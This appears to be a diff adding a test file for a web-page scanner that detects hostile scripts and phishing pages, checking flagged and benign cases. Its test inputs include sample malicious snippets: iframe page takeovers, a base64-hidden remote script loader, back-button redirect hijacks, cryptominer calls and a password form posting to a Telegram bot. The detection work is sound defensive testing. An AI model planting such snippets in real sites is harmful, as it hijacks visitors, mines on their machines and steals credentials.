@@ -1,0 +1,91 @@
+import { describe, expect, it } from "vitest";
+import { listPhishingReasons, listTrapReasons } from "./find-traps.ts";
+import { readPage } from "./read-page.ts";
+import { readTraps } from "./read-traps.ts";
+import { sumOf } from "./reason.ts";
+
+const here = "https://www.here.org/lessons";
+const encoded = btoa("https://cdn.there.org/u.js");
+
+describe("what scripts do behind visitors' backs", () => {
+  it.each([
+    [
+      "a frame in place of the page",
+      "document.body.innerHTML='<iframe src=https://a.there.org/de/></iframe>'",
+    ],
+    [
+      "a frame over the window",
+      'document.write(\'<iframe src="//there.org/" style="position:fixed;inset:0"></iframe>\')',
+    ],
+    [
+      "a script whose address is in base64",
+      `s=createElement("script");s.src=atob("${encoded}")+"?"+Date.now();`,
+    ],
+    [
+      "the same, by a name",
+      `var u=atob("${encoded}"), s=document.createElement('script');\ns.src = u;\ndocument.head.append(s)`,
+    ],
+    [
+      "a way back that leads on",
+      "history.pushState(null,'',location.href);onpopstate=function(){location='https://go.there.org/b?c='+id}",
+    ],
+    [
+      "a way back that leads on, as listened for",
+      "addEventListener('popstate', () => { location.replace('https://there.org/offer') })",
+    ],
+    ["leave for notices", "Notification.requestPermission();location='https://there.org/a'"],
+  ])("%s", (_, script) => {
+    expect(readTraps(script, here)).toEqual([expect.stringMatching(/ there\.org$/)]);
+  });
+
+  it.each([
+    "var m=new CoinHive.Anonymous('gk1hQ8',{throttle:0.2});m.start();",
+    "new Client.Anonymous('7f', {throttle: 0.5, c: 'w'}).start()",
+    "pool.connect('stratum+tcp://pool.there.org:3333')",
+  ])("coins reckoned for others: %s", (script) => {
+    expect(readTraps(script, here)).toEqual(["a script reckons coins on visitors' computers"]);
+  });
+
+  it.each([
+    [
+      "a film in a box",
+      'box.innerHTML = \'<iframe src="https://www.youtube.com/embed/a" width="100%"></iframe>\'',
+    ],
+    ["a frame of its own", "document.body.innerHTML = '<iframe src=\"/quiz\"></iframe>'"],
+    ["a counter", "s=createElement('script');s.src='https://www.google-analytics.com/analytics.js';"],
+    [
+      "comments under a name of their own",
+      "var n='here-org', d=document, s=d.createElement('script');s.src='https://'+n+'.disqus.com/embed.js';",
+    ],
+    ["views within the page", "window.onpopstate = () => { location = '/list' }"],
+    ["notices of its own", "button.onclick = () => Notification.requestPermission().then(save)"],
+    ["an anonymous visit", "session = new Visit('Anonymous').start()"],
+  ])("not %s", (_, script) => {
+    expect(readTraps(script, here)).toEqual([]);
+  });
+});
+
+it("asks about scripts from places whose names say what they are for", () => {
+  const weigh = (html: string) => sumOf(listTrapReasons(readPage(html, here)));
+  expect(weigh("<p>Lessons</p><script src=//free-porn.club/pop.js></script>")).toBe(2);
+  expect(weigh("<p>Lessons</p><script src=https://cdn.jsdelivr.net/npm/a.js></script>")).toBe(0);
+});
+
+describe("a short page that asks for a password", () => {
+  const door = (head: string, more = "") =>
+    readPage(`${head}<form><input type=password></form>${more}`, here);
+  const weigh = (page: ReturnType<typeof door>) => sumOf(listPhishingReasons(page, here, "Lessons"));
+
+  it("in the sign of a maker, and leads nowhere else, is in his name", () => {
+    const sign = '<title>Sign in</title><img src=a.svg alt="Microsoft">';
+    expect(weigh(door(sign))).toBe(4);
+    expect(weigh(door(sign, "<a href=/help>Help</a>"))).toBe(0);
+    expect(weigh(door('<title>Sign in</title><img src=a.svg alt="River School">'))).toBe(0);
+  });
+
+  it("and sends it to a chat is a thief's", () => {
+    const script = "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>";
+    expect(weigh(door("<title>Portal</title>", script))).toBe(4);
+    expect(weigh(readPage(`<p>News of the school</p>${script}`, here))).toBe(0);
+  });
+});
